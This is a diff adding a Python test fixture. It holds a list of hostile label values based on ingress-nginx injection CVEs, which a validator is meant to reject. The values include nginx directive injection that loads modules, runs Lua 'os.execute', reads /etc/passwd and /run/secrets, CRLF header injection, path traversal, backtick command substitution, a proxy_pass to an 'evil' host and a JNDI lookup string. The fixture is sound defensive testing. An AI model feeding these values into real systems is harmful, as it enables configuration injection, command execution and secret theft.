@@ -1,0 +1,50 @@
+"""A corpus of hostile label values, after the ingress-nginx injection CVEs and scanner payloads.
+
+Every value here must be refused by every label's grammar: each carries configuration syntax,
+a variable, a control or invisible character, a path trick, or is too long.
+"""
+
+from __future__ import annotations
+
+PAYLOADS: tuple[str, ...] = (
+    "a;b",
+    "demo.local; include /etc/passwd",
+    "x { return 200 pwned; }",
+    "}",
+    "{",
+    "\n",
+    "demo.local\nserver_name evil",
+    "demo.local\r\nX-Injected: 1",
+    "/app\nlocation / { root /; }",
+    '"quoted"',
+    "'single'",
+    "$http_authorization",
+    "${host}",
+    "/app$request_uri",
+    "#comment",
+    "demo.local # trailing",
+    "back\\slash",
+    "nul\x00byte",
+    "line\u2028separator",
+    "para\u2029graph",
+    "zero\u200bwidth.com",
+    "right\u202eto-left.com",
+    "tab\there",
+    "space here",
+    "`cmd`",
+    "http://example.com/#;\ninjection_point",
+    "load_module /tmp/evil.so;",
+    "lua_package_path '/tmp/?.lua';",
+    "content_by_lua_block { os.execute('id') }",
+    "ssl_engine pkcs11;",
+    "include /run/secrets/*;",
+    "/../../etc/passwd;",
+    "/app/../../run/secrets/key;",
+    "/./",
+    "//double",
+    "proxy_pass http://evil;",
+    "x" * 3000,
+    "a," * 1500,
+    "/" + "a" * 3000,
+    "${jndi:ldap://x}",
+)
